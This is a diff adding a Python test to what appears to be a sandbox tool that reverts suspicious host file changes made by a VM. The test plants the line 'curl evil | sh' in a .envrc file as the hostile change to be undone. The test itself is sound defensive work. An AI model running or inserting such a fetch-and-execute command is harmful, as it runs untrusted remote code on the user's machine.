@@ -345,3 +345,16 @@ def test_stop_and_kill_review_and_leave_later_host_changes_alone(fake: FakeRunti
     write_hook(checkout)  # the user's own, with no VM running
     kill(app, False, lambda _line: None)
     assert (checkout / ".git/hooks/pre-commit").exists()
+
+
+def test_yes_reverts_without_asking_and_says_why(fake: FakeRuntime, checkout: Path) -> None:
+    app = make_app(fake, checkout, assume_yes=True)
+    review(app, vm_may_write_after=True)
+    (checkout / ".envrc").write_text("curl evil | sh\n")
+
+    def never(question: str) -> bool:
+        raise AssertionError(question)
+
+    assert review(app, vm_may_write_after=True, ask=never).reverted
+    assert "--yes: reverting them" in messages(app)
+    assert (checkout / ".envrc").read_text() == "export A=1\n"
